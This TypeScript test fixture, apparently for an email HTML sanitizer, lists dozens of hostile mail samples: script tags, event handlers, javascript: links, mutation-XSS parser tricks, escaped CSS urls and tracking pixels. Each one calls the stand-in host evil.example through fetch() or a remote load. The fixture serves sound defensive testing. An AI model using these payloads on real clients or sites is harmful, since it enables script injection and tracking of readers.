/** A mail that would do something to whoever opens it. `blocked` is how many pictures elsewhere it wants to show. */
export interface NastyMail {
  readonly name: string
  readonly html: string
  readonly blocked: number
}

const evil = 'https://evil.example'
/** Runs only if something is wrong: the test looks for the word. */
const boom = `window.top.postMessage('boom','*');fetch('${evil}/ran')`

export const nastyMails: readonly NastyMail[] = [
  { name: 'script', html: `<p>shown</p><script>${boom}</script><script src="${evil}/x.js"></script>`, blocked: 0 },
  { name: 'handlers', html: `<p onclick="${boom}" onmouseover="${boom}">shown</p><body onload="${boom}">`, blocked: 0 },
  {
    name: 'image error',
    html: `<p>shown</p><img src="${evil}/a.png" onerror="${boom}"><img src=x onerror="${boom}">`,
    blocked: 1,
  },
  {
    name: 'svg',
    html: `<p>shown</p><svg onload="${boom}"><script>${boom}</script><image href="${evil}/s.png"/><a xlink:href="javascript:${boom}"><text>x</text></a><animate onbegin="${boom}" attributeName=x dur=1s></svg>`,
    blocked: 0,
  },
  {
    name: 'svg use and foreignObject',
    html: `<p>shown</p><svg><use href="${evil}/u.svg#x"/><foreignObject><iframe src="${evil}"></iframe><img src=x onerror="${boom}"></foreignObject></svg>`,
    blocked: 0,
  },
  {
    name: 'javascript links',
    html: `<p>shown</p><a href="javascript:${boom}">a</a><a href=" &#106;avascript&colon;${boom}">b</a><a href="jav&#x09;ascript:${boom}">c</a><a href="vbscript:x">d</a><a href="data:text/html,<script>${boom}</script>">e</a>`,
    blocked: 0,
  },
  {
    name: 'meta refresh',
    html: `<meta http-equiv="refresh" content="0;url=${evil}/m"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>shown</p>`,
    blocked: 0,
  },
  {
    name: 'base',
    html: `<base href="${evil}/"><base target="_top"><p>shown</p><img src="relative.png"><a href="relative">x</a>`,
    blocked: 0,
  },
  {
    name: 'forms',
    html: `<p>shown</p><form action="${evil}/f" id=f><input name=q value=1 autofocus onfocus="${boom}"><button formaction="${evil}/b">Go</button><input type=image src="${evil}/i.png"></form><button form=f>x</button>`,
    blocked: 0,
  },
  {
    name: 'style sheets',
    html: `<style>@import url(${evil}/i.css); @import '${evil}/j.css'; @font-face { font-family: x; src: url(${evil}/f.woff) } body { background: url(${evil}/b.png) } p { font-family: x; background-image: URL("${evil}/p.png") } </style><p>shown</p>`,
    blocked: 2,
  },
  {
    name: 'escaped css',
    html: `<style>p { background: \\75\\72\\6c(${evil}/e.png); --u: url(${evil}/v.png); border-image: url(${evil}/bi.png) } p::after { content: url(${evil}/c.png) } li { list-style: url(${evil}/l.png); cursor: url(${evil}/cu.cur), auto }</style><p style="background:\\75 rl(${evil}/s.png)">shown</p>`,
    blocked: 6,
  },
  {
    name: 'image-set',
    html: `<p style="background-image: image-set('${evil}/1.png' 1x, '${evil}/2.png' 2x); mask-image: url(${evil}/m.png); filter: url(${evil}/f.svg#x)">shown</p>`,
    blocked: 2,
  },
  {
    name: 'css expression and binding',
    html: `<p style="width: expression(${boom}); -moz-binding: url(${evil}/x.xml#y); behavior: url(${evil}/z.htc)">shown</p>`,
    blocked: 0,
  },
  {
    name: 'variables',
    html: `<style>:root { --a: url(${evil}/var.png) } p { background: var(--a) }</style><p style="--b:url(${evil}/b.png);background-image:var(--b)">shown</p>`,
    blocked: 0,
  },
  {
    name: 'style breakout',
    html: `<style><!-- p{} --></style><style>p::before{content:"</style><img src=x onerror=${boom}>"}</style><style></sty/**/le><img src=x onerror="${boom}"></style><p>shown</p>`,
    blocked: 0,
  },
  {
    name: 'style in a selector',
    html: `<style>[data-x="</style><script>${boom}</script>"] { color: red }</style><p>shown</p>`,
    blocked: 0,
  },
  {
    name: 'mxss: noscript',
    html: `<p>shown</p><noscript><p title="</noscript><img src=x onerror=${boom}>"></noscript>`,
    blocked: 0,
  },
  {
    name: 'mxss: math',
    html: `<p>shown</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${boom}&gt;">`,
    blocked: 0,
  },
  {
    name: 'mxss: form and mglyph',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${boom}></style></mglyph></form><p>shown</p>`,
    blocked: 0,
  },
  {
    name: 'mxss: svg title',
    html: `<p>shown</p><svg></p><style><a id="</style><img src=1 onerror=${boom}>">`,
    blocked: 0,
  },
  {
    name: 'mxss: textarea and comments',
    html: `<p>shown</p><textarea><img title="</textarea><img src=x onerror=${boom}>"></textarea><!--><img src=x onerror=${boom}>--><xmp><img src=x onerror=${boom}></xmp>`,
    blocked: 0,
  },
  {
    name: 'mxss: nested tables',
    html: `<table><tr><td><p>shown</p><select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${boom}>">`,
    blocked: 0,
  },
  {
    name: 'nested entities',
    html: `<p>shown</p>&lt;script&gt;${boom}&lt;/script&gt;<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${boom}">x</a>`,
    blocked: 0,
  },
  {
    name: 'tracking pixel',
    html: `<p>shown</p><img src="${evil}/t.gif?u=ada" width=1 height=1 style="display:none"><img src="//evil.example/t2.gif"><img src="http://evil.example/t3.gif">`,
    blocked: 3,
  },
  {
    name: 'srcset and picture',
    html: `<p>shown</p><img srcset="${evil}/1x.png 1x, ${evil}/2x.png 2x"><picture><source srcset="${evil}/p.webp"><img src="${evil}/p.png"></picture>`,
    blocked: 2,
  },
  {
    name: 'video and audio',
    html: `<p>shown</p><video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay onerror="${boom}"></video><audio src="${evil}/a.mp3" autoplay></audio><track src="${evil}/t.vtt">`,
    blocked: 0,
  },
  {
    name: 'background attributes',
    html: `<body background="${evil}/body.png"><table background="${evil}/t.png"><tr><td background="${evil}/d.png"><p>shown</p></td></tr></table></body>`,
    blocked: 3,
  },
  {
    name: 'links that fetch',
    html: `<link rel=stylesheet href="${evil}/c.css"><link rel=prefetch href="${evil}/p"><link rel=preconnect href="${evil}"><link rel=dns-prefetch href="//evil.example"><link rel=icon href="${evil}/i.ico"><link rel=preload as=image href="${evil}/pl.png"><p>shown</p>`,
    blocked: 0,
  },
  {
    name: 'objects and frames',
    html: `<p>shown</p><object data="${evil}/o.swf"><param name=movie value="${evil}/m"></object><embed src="${evil}/e"><iframe src="${evil}"></iframe><iframe srcdoc="<script>${boom}</script>"></iframe><frameset><frame src="${evil}"></frameset><applet code=x archive="${evil}/a.jar"></applet>`,
    blocked: 0,
  },
  {
    name: 'fixed position',
    html: `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div><style>.f{position:sticky;top:0}</style><p class=f>shown</p>`,
    blocked: 0,
  },
  {
    name: 'ping and download',
    html: `<p>shown</p><a href="${evil}/x" ping="${evil}/ping" download target=_top rel=opener>x</a><area href="javascript:${boom}"><map><area href="${evil}"></map>`,
    blocked: 0,
  },
  {
    name: 'clobbering',
    html: `<p>shown</p><form id=attributes><input name=attributes><input name=childNodes></form><img name=cookie><a id=x name=y href="${evil}">z</a>`,
    blocked: 0,
  },
  {
    name: 'data images',
    html: `<p>shown</p><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${boom}'/>"><img src="data:text/html,<script>${boom}</script>"><img src="blob:https://evil.example/x">`,
    blocked: 0,
  },
  {
    name: 'custom elements and templates',
    html: `<p>shown</p><x-y is="x" onclick="${boom}"><template shadowrootmode=open><img src="${evil}/t.png" onerror="${boom}"></template></x-y><dialog open onclose="${boom}">d</dialog><button popovertarget=p>x</button><div id=p popover onbeforetoggle="${boom}">y</div>`,
    blocked: 1,
  },
  {
    name: 'details and marquee',
    html: `<p>shown</p><details open ontoggle="${boom}"><summary>s</summary>t</details><marquee onstart="${boom}">m</marquee>`,
    blocked: 0,
  },
]
